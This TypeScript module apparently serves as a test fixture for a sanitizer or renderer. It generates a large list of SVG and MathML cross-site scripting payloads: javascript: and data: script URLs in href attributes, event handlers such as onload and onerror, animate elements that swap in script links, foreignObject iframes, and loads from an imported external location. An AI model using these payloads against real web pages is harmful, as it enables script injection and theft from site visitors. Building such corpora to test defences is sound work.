import { elsewhere, runs } from './payload.ts'

const script = `javascript:${runs}`
const picture = (inner: string) => `data:image/svg+xml,${encodeURIComponent(`<svg id="x" xmlns="http://www.w3.org/2000/svg">${inner}</svg>`)}`

const loaders = ['image', 'use', 'feImage', 'script', 'a', 'textPath', 'mpath', 'pattern', 'linearGradient', 'filter', 'animate', 'cursor', 'tref']
const links = ['href', 'xlink:href', 'XLINK:HREF', 'x:href']
const targets = [`${elsewhere}/drawing`, script, `data:text/javascript,${runs}`, picture(`<script>parent.${runs}</script>`)]

const animated = ['animate', 'set', 'animateTransform', 'animateMotion', 'discard'].flatMap((element) => [
  `<svg><${element} onbegin=${runs} attributeName=x dur=1ms /></svg>`,
  `<svg><${element} onend=${runs} attributeName=x dur=1ms /></svg>`,
  `<svg><${element} onrepeat=${runs} attributeName=x dur=1ms repeatCount=2 /></svg>`,
  `<svg><a><${element} attributeName=href values="${script}" fill=freeze /><text y=20>word</text></a></svg>`,
  `<svg><a><${element} attributeName=xlink:href to="${script}" begin=0s fill=freeze /><text y=20>word</text></a></svg>`,
])

/** SVGs in a text, and what they load. */
export const drawingsThatRun: readonly string[] = [
  ...loaders.flatMap((loader) =>
    links.flatMap((link) =>
      targets.map((target) => `<svg xmlns:x="http://www.w3.org/1999/xlink"><${loader} ${link}='${target}' width=9 height=9>word</${loader}></svg>`),
    ),
  ),
  ...animated,
  `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload=${runs}></foreignObject></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${runs}</script>"></foreignObject></svg>`,
  `<svg><handler type="application/ecmascript">${runs}</handler></svg>`,
  `<svg><script type="text/ecmascript">${runs}</script></svg>`,
  `<svg><script><![CDATA[${runs}]]></script></svg>`,
  `<svg><title><script>${runs}</script></title></svg>`,
  `<svg><switch><foreignObject><img src=x onerror=${runs}></foreignObject></switch></svg>`,
  `<svg><view onfocus=${runs} tabindex=0 autofocus></view></svg>`,
  `<svg onresize=${runs} onunload=${runs} onscroll=${runs} onload=${runs}>`,
  `<math><maction actiontype="statusline#${elsewhere}" xlink:href="${script}">word</maction></math>`,
  `<math><mtext><img src=x onerror=${runs}></mtext></math>`,
  `<math href="${script}">word</math>`,
]
